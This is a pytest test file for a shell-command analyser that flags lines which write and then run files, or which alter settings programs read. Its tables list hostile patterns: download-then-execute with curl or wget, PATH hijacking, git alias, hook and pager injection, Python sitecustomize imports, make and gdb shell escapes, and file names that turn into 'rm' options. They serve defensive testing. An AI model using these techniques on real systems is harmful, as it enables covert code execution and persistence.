"""Files that a line writes and then runs, or that programs read as settings: bash, git, python and make are asked."""

from __future__ import annotations

import shutil

import pytest

from scopes.check.shell import parse_commands
from scopes.check.shell_files import Files
from tests.check.marked_runs import prepare, reads_of, runs_mark

SCRIPT = "'#!/bin/sh\\nmark\\n'"
ALIAS = "'[alias]\\n\\tz = !mark\\n'"
RUNS = [  # `mark` runs for these
    f"printf {SCRIPT} > x.sh; chmod +x x.sh; ./x.sh",
    f"printf {SCRIPT} > x.sh; sh x.sh",
    f"printf {SCRIPT} > x.sh; bash -e x.sh a b",
    f"printf {SCRIPT} > x.sh; . ./x.sh",
    f"printf {SCRIPT} > x.sh; bash < x.sh",
    "(echo mark) > x.sh; chmod +x x.sh; ./x.sh",
    "{ echo :; echo mark; } > x.sh; sh x.sh",
    "(echo mark > x.sh); sh x.sh",
    "bash -c 'echo mark > x.sh'; sh x.sh",
    "echo mark | tee x.sh; sh x.sh",
    "tee x.sh <<< mark; sh x.sh",
    "cat > x.sh <<'E'\nmark\nE\nsh x.sh",
    "cat <<E | tee -a x.sh\nmark\nE\nsh x.sh",
    "echo ': a' > x.sh; echo mark >> x.sh; sh x.sh",
    "echo mark > y; cp y x.sh; sh x.sh",
    "echo mark > y; mv y x.sh; sh x.sh",
    "echo mark > y; ln -s y x.sh; sh x.sh",
    "echo mark > y; mkdir d; cp y d; sh d/y",
    "mkdir d; echo mark > d/y; mv d e; sh e/y",
    "echo mrk > x.sh; sed -i s/mrk/mark/ x.sh; sh x.sh",
    "echo ls > x.sh; false && echo : > x.sh; echo mark > x.sh; sh x.sh",
    "echo mark > x.sh; false && echo : > x.sh; sh x.sh",
    "echo '\"$@\"' > x.sh; sh x.sh mark",
    "echo 'sh y' > x; echo mark > y; sh x",
    f"mkdir b; printf {SCRIPT} > b/ls; chmod +x b/ls; PATH=$PWD/b:$PATH ls",
    f"printf {SCRIPT} > ls; chmod +x ls; PATH=.:$PATH; ls",
    f"printf {SCRIPT} > ls; chmod +x ls; export PATH=:$PATH; ls",
    "printf '#!/usr/bin/env python3\\nimport os; os.system(\"mark\")\\n' > x; chmod +x x; ./x",
    "cat > x.py <<'E'\nimport os\nos.system('mark')\nE\npython3 x.py",
    "echo 'import os; os.system(\"mark\")' > x.py; python3 - < x.py",
    "echo 'import os; os.system(\"mark\")' > x.py; python3 < x.py",
    "echo 'import os; os.system(\"mark\")' > x.py; python3 -m x",
    "echo 'import os; os.system(\"mark\")' > json.py; python3 -c 'import json'",
    "mkdir json; echo 'import os; os.system(\"mark\")' > json/__init__.py; python3 -c 'import json'",
    "echo 'import os; os.system(\"mark\")' > sitecustomize.py; PYTHONPATH=. python3 -c 1",
    "mkdir d; echo 'import os; os.system(\"mark\")' > d/sitecustomize.py; export PYTHONPATH=$PWD/d; python3 -c 1",
    "echo 'import os; os.system(\"mark\")' > s.py; PYTHONSTARTUP=s.py python3 -i < /dev/null",
    "printf 'x:\\n\\tmark\\n' > Makefile; make",
    "printf 'x:\\n\\tmark\\n' > m; make -f m",
    "printf 'x:\\n\\tmark\\n' > m; MAKEFILES=m make x",
    "make -f <(printf 'x:\\n\\tmark\\n')",
    "MAKEFLAGS='--eval=x:;mark' make x",
    "echo 'BEGIN { system(\"mark\") }' > p; awk -f p",
    "echo 'e mark' > p; sed -n -f p <<< 1",
    f"printf {ALIAS} > g; GIT_CONFIG_GLOBAL=g git z",
    f"printf {ALIAS} > g; export GIT_CONFIG_GLOBAL=$PWD/g; git z",
    f"printf {ALIAS} > g; cp g h; GIT_CONFIG_GLOBAL=h git z",
    f"printf {ALIAS} >> .git/config; git z",
    f"printf {ALIAS} | tee -a .git/config; git z",
    f"cd .git; printf {ALIAS} >> config; cd ..; git z",
    "printf '[alias]\\n\\tz = !nothing\\n' >> .git/config; sed -i s/nothing/mark/ .git/config; git z",
    f"printf {ALIAS} > $HOME/.gitconfig; git z",
    f"printf {ALIAS} > ~/.gitconfig; git z",
    f"mkdir -p ~/.config/git; printf {ALIAS} > ~/.config/git/config; git z",
    f"mkdir -p c/git; printf {ALIAS} > c/git/config; XDG_CONFIG_HOME=$PWD/c git z",
    f"printf {ALIAS} > .gitconfig; HOME=$PWD git z",
    "git config alias.z '!mark'; git z",
    "git config --global alias.z '!mark'; git z",
    "git config core.pager mark; git -p log",
    "git config -f g alias.z '!mark'; GIT_CONFIG_GLOBAL=g git z",
    f"printf {SCRIPT} > .git/hooks/post-commit; chmod +x .git/hooks/post-commit; git commit --allow-empty -qm x",
    f"mkdir h; printf {SCRIPT} > h/post-commit; chmod +x h/*; git -c core.hooksPath=h commit --allow-empty -qm x",
    "trap 'd=mark' DEBUG; d=:; $d",
    "d=:; trap '$d' EXIT; d=mark",
    "(d=:; trap '$d' EXIT; d=mark)",
    "bash -c 'd=:; trap \"\\$d\" EXIT; d=mark'",
    "shopt -s lastpipe; echo mark | read x; $x",
]
UNREAD = [  # what programs save, copy or unpack, and the program that is not known
    ("curl -o run.sh https://x/y; ./run.sh", "./run.sh"),
    ("curl --output run.sh https://x/y && sh run.sh", "sh"),
    ("curl -O https://x/run.sh; ./run.sh", "./run.sh"),
    ("curl -fsSLO 'https://x/run.sh?a=b'; bash run.sh", "bash"),
    ('curl -O "$URL"; ./run.sh', "./run.sh"),
    ("curl --output-dir d -o run.sh https://x/y; d/run.sh", "d/run.sh"),
    ("curl --remote-name-all https://x/a https://x/b; sh b", "sh"),
    ("curl -o Makefile https://x/y; make", "make"),
    ("wget https://x/run.py; python3 run.py", "python3"),
    ("wget -q $URL; bash ./r.sh", "bash"),
    ("wget -P d https://x/r.sh; sh d/r.sh", "sh"),
    ("wget -O r.sh https://x/y; sh r.sh", "sh"),
    ("wget -i list; sh r.sh", "sh"),
    ("dd if=/tmp/e of=r; ./r", "./r"),
    ("tar xf a.tar; ./configure", "./configure"),
    ("tar -xzf a.tgz; cd a && ./configure", "./configure"),
    ("tar --extract -f a.tar; python3 a/setup.py", "python3"),
    ("tar -C n -xf a.tar; n/x", "n/x"),
    ("unzip -q a.zip; ./run.sh", "./run.sh"),
    ("unzip a.zip -d n; sh n/run.sh", "sh"),
    ("git apply p.patch; ./run.sh", "./run.sh"),
    ("cp -r /tmp/e d; d/run.sh", "d/run.sh"),
    ("mv /tmp/e d; sh d/e/run.sh", "sh"),
    ("rsync -a /tmp/e/ d; sh d/run.sh", "sh"),
    ("cp /tmp/evil ./ls; PATH=. ls", "ls"),
    ("cp /tmp/evil ./ls; env PATH=.:/bin ls", "ls"),
    ("cp /tmp/evil ./ls; PATH=$x ls", "ls"),
    ("echo 'shell mark' > g; gdb -batch -x g", "gdb"),
    ("echo 'shell mark' > ~/.gdbinit; gdb -batch", "gdb"),
    ("echo '.shell mark' > y; sqlite3 x < y", "sqlite3"),
    ("echo '.shell mark' > y; sqlite3 x '.read y'", "sqlite3"),
    ("echo '.shell mark' > y; sqlite3 -init y x", "sqlite3"),
    ("curl -o y https://x/y; psql -f y", "psql"),
    ("echo 'execute_process(COMMAND mark)' > y; cmake -P y", "cmake"),
    ("printf 'rule x\\n command = mark\\n' > build.ninja; ninja", "ninja"),
    ("echo 'system mark' > x.t; prove x.t", "prove"),
    ("echo 'ProxyCommand mark' > c; scp -F c x:y z", "scp"),
    ("echo 'run-shell mark' > c; tmux -f c start", "tmux"),
    ("echo '!mark' > c; ed x < c", "ed"),
    ("echo '!mark' > c; vim -Nu c x", "vim"),
    ("echo '!mark' > ~/.vimrc; vi x", "vi"),
    ("echo 'x()' > x.js; node x", "node"),
    ("echo 'x()' > index.js; node .", "node"),
    ("mkdir p; echo 'open(1)' > p/__main__.py; python3 p", "python3"),
    ("echo 'open(1)' > x.py; python3 -m doctest x.py", "python3"),
    ("echo 'int main;' > x.c; gcc -o x x.c; ./x", "./x"),
    ("echo 'open(1)' > d/a.py; PYTHONPATH=d python3 -m a", "python3"),
    ("echo 'open(1)' > d/__init__.py; python3 -m d.x", "python3"),
    ("curl -o node_modules/.bin/jest https://x/y; npx jest", "jest"),
    ("git clone https://x/tool.git; tool/run.sh", "tool/run.sh"),
    ("git clone -q --depth 1 r d; sh d/run.sh", "sh"),
    ("gcc -x c - <<< 'int main;'; ./a.out", "./a.out"),
]
SAVED_ELSEWHERE = [  # and here the programs are others, or nothing is saved
    "echo 'create table x (a);' > y; sqlite3 x < y; ./configure",
    "echo 'create table x (a);' > y; psql -f y; ./configure",
    "echo x > x.txt; vim x.txt; node x; ./configure",
    "gcc -o x x.c; ./x; ./configure",
    "ln -s bin/tool tool; ./tool; ./configure",
    "ln -s /usr/bin/python3.11 ~/bin/python3; python3 x.py; ./configure",
    "curl -o data.json https://x/y; ./run.py",
    "curl https://x/run.py; ./run.py",
    "curl -O https://x/data.json; ./run.py",
    "wget --spider https://x/run.py; ./run.py",
    "wget -P d https://x/run.py; ./run.py",
    "wget -O - https://x/run.py; ./run.py",
    "tar tf a.tar; ./configure",
    "tar czf a.tgz d; ./configure",
    "tar -xf a.tar -C n; ./configure",
    "unzip -l a.zip; ./configure",
    "unzip a.zip -d n; ./configure",
    "git apply --check p.patch; ./configure",
    "cp -r /tmp/e d; ./configure",
    "cp /tmp/evil ./ls; ls",
    "cp /tmp/evil d/ls; PATH=.:/bin ls",
]
RUNS_NOTHING = [  # no other program runs, and everything is read
    "echo 'ls; cat a' > x.sh; sh x.sh",
    "printf '#!/bin/bash\\nset -e\\nls\\n' > x.sh; chmod +x x.sh; ./x.sh a",
    "cat > x.py <<'E'\nprint(1)\nE\npython3 x.py",
    "echo mark > notes; cat notes",
    "echo 'print(1)' > tool.py; python3 -c 'import json; print(json.dumps(1))'",
    "printf '[user]\\n\\tname = b\\n' >> .git/config; git status",
    "git config user.name mark; git log",
    "git config core.hooksPath .githooks; git status",
    "GIT_CONFIG_GLOBAL=/dev/null git status",
    "PATH=$PWD/b:$PATH ls",
    "d=$(mktemp -d); trap 'ls \"$d\"' EXIT; ls",
    "shopt -s nullglob; ls | sort",
]
CALM = {
    "echo",
    "printf",
    "chmod",
    "sh",
    "bash",
    "ls",
    "cat",
    "set",
    "python3",
    "git",
    "mktemp",
    "shopt",
    "sort",
    "x.sh",
}
needs_make = pytest.mark.skipif(shutil.which("make") is None, reason="there is no make")


@pytest.fixture(scope="module")
def prepared(tmp_path_factory):
    """A home directory with a repository."""
    return prepare(
        tmp_path_factory.mktemp("written"), "git init -q . && echo one > a && git add . && git commit -qm 1 && echo > q"
    )


@pytest.mark.parametrize("line", RUNS)
@pytest.mark.cases(32)
def test_a_program_in_a_file_that_the_line_writes_is_found_or_the_line_is_opaque(prepared, tmp_path, line):
    if not runs_mark(prepared, line, tmp_path):
        pytest.skip("this system does not run it")
    programs, opaque = reads_of(line)
    assert "mark" in programs or opaque


@pytest.mark.parametrize("line", RUNS_NOTHING)
@pytest.mark.cases(16)
def test_a_line_whose_files_run_no_other_program_is_read_completely(prepared, tmp_path, line):
    assert not runs_mark(prepared, line, tmp_path)
    programs, opaque = reads_of(line)
    assert programs <= CALM
    assert opaque == []


@pytest.mark.parametrize(("line", "name"), UNREAD)
def test_a_program_that_was_saved_copied_or_unpacked_is_opaque(line, name):
    last = parse_commands(line, "/w")[-1]
    assert last.argv[0] == name
    assert "a file that was written before" in (last.opaque or "")


@pytest.mark.parametrize("line", SAVED_ELSEWHERE)
def test_a_program_at_another_place_than_what_was_saved_is_not(line):
    assert {each.opaque for each in parse_commands(line, "/w")} == {None}


@pytest.mark.parametrize("name", ["a.pth", "usercustomize.py", "sitecustomize.py"])
def test_python_runs_files_among_its_packages_at_its_start(name):
    line = f"echo 'open(1)' > ~/.local/lib/python3.11/site-packages/{name}; python3 -c 1"
    assert "python3 imports a file that was written before" in (parse_commands(line, "/w")[-1].opaque or "")


@pytest.mark.parametrize("line", ["touch -- -rf; rm * ../x", "touch ./--recursive; rm -f [a-z]* ../x", "> -f; rm ? x"])
def test_a_pattern_that_may_become_an_option_is_opaque(line):
    assert parse_commands(line, "/w")[-1].opaque == "a pattern may become an option: a file has such a name"


@pytest.mark.parametrize("line", ["touch -- -rf; rm ./* x", "touch x; rm *", "touch -- -rf; ls"])
def test_a_pattern_that_becomes_none_is_not(line):
    assert parse_commands(line, "/w")[-1].opaque is None


def test_a_program_that_find_finds_is_opaque():
    assert parse_commands("find . -name x -exec {} a \\;", "/w")[-1].opaque == "the program is computed by the shell"


@pytest.mark.parametrize("line", ["ln -s /bin/rm z; ./z -rf x", "ln -s /bin/rm ~/bin/z; z -rf x", "ln -s $x z; ./z"])
def test_a_program_that_is_a_link_to_another_one_is_opaque(line):
    assert parse_commands(line, "/w")[-1].opaque == "the program is a link that was made before"


@pytest.mark.parametrize("line", ["tar xf a.tar", "git apply p", "cp -r /tmp/e d", "unzip a.zip"])
def test_what_an_earlier_line_unpacked_is_no_reason(line):
    """Nearly every build runs what was once unpacked: only one line that does both hides what it runs."""
    files = Files()
    for number, each in enumerate((line, "./run.py; d/run.py"), 1):
        files.line = number
        commands = parse_commands(each, "/w", files)
    assert [each.opaque for each in commands] == [None, None]


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("git log -3", None),
        ("git -C /w ls-tree -r HEAD", None),
        ("GIT_INDEX_FILE=i git -C /w ls-files --debug", None),
        ("git show HEAD:a; git rev-parse HEAD", None),
        ("git status", "git may run a hook that was written before"),
        ("git -C /w commit -m log", "git may run a hook that was written before"),
        ("git checkout log", "git may run a hook that was written before"),
        ("git $verb", "the subcommand of git is computed by the shell"),
    ],
)
def test_a_command_of_git_that_only_reads_runs_no_hook(line, reason):
    files = Files()
    parse_commands(f"printf {SCRIPT} > .git/hooks/post-index-change", "/w", files)
    files.line += 1
    assert {each.opaque for each in parse_commands(line, "/w", files)} == {reason}


def test_a_command_of_git_that_reads_the_index_may_ask_a_monitor_that_was_written():
    files = Files()
    parse_commands(f"printf {SCRIPT} > .git/hooks/fsmonitor-watchman", "/w", files)
    (command,) = parse_commands("git ls-files", "/w", files)
    assert command.opaque == "git may run a hook that was written before"


def test_most_lines_run_a_program_here(prepared, tmp_path):
    """The table would prove nothing if the programs refused its lines."""
    assert runs_mark(prepared, RUNS[0], tmp_path)


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("echo 'a $1' > x.sh; sh x.sh b", ("a", "b")),
        ("echo 'a $0' > x.sh; sh x.sh b", ("a", "x.sh")),
        ("echo 'v=b' > x.sh; . ./x.sh; a $v", ("a", "b")),
        ("echo 'cd sub' > x.sh; . ./x.sh; a", ("a",)),
        ("printf '#!/bin/bash\\na \"$@\"\\n' > x; chmod +x x; ./x 'b c' d", ("a", "b c", "d")),
    ],
)
def test_a_script_gets_its_arguments_and_source_runs_in_the_same_shell(line, words):
    assert words in [each.argv for each in parse_commands(line, "/w")]
    assert [each.opaque for each in parse_commands(line, "/w") if each.opaque] == []


def test_a_script_that_is_run_in_its_own_shell_does_not_change_the_directory_of_the_line():
    line = "echo 'cd sub; v=b' > x.sh; sh x.sh; a $v; . ./x.sh; a $v"
    first, second = (each for each in parse_commands(line, "/w") if each.program == "a")
    assert (first.directory, first.argv) == ("/w", ("a", None))
    assert (second.directory, second.argv[1]) == ("/w/sub", "b")


@pytest.mark.parametrize(
    "line", ["echo ./x.sh > x.sh; sh x.sh", "echo 'sh y' > x; echo 'sh x' > y; sh x", "echo '. ./x' > x; . ./x; . ./x"]
)
def test_scripts_that_run_each_other_end(line):
    commands = parse_commands(line, "/w")
    assert any(each.opaque == "a script runs itself" for each in commands)
    assert not any((each.opaque or "").startswith("it is nested") for each in commands)


@pytest.mark.slow
def test_many_files_are_read_in_little_time_and_then_every_path_may_be_one():
    line = "; ".join(f"echo : > f{number}" for number in range(5100)) + "; sh g"
    assert parse_commands(line, "/w")[-1].opaque is not None
